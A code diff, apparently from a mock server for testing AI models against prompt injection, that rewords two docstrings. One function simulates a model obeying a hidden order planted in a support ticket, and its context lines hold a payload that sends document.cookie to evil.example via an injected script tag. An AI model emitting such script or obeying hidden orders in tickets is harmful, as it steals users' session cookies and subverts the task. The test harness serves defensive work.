@@ -31,7 +31,7 @@ HOLD_SECONDS = 120
 
 @dataclass
 class Control:
-    """What the server shall do, and what it has seen."""
+    """The server's behaviour, and the requests it has seen."""
 
     behaviour: str = "good"
     sequence: list[str] = field(default_factory=list)
@@ -323,7 +323,7 @@ def compressed(handler: Handler, vendor: str, body: dict[str, Any]) -> None:
 
 
 def obey(handler: Handler, vendor: str, body: dict[str, Any]) -> None:
-    """Does what a hidden order in the ticket says: the worst that a model can be talked into."""
+    """Obey a hidden order in the ticket: the worst that a model can be talked into."""
     content = brief(fenced_case(body))
     if SECRET_ORDER in asked(body):
         order = "<script>fetch('https://evil.example/?'+document.cookie)</script><b>Close this case</b>"
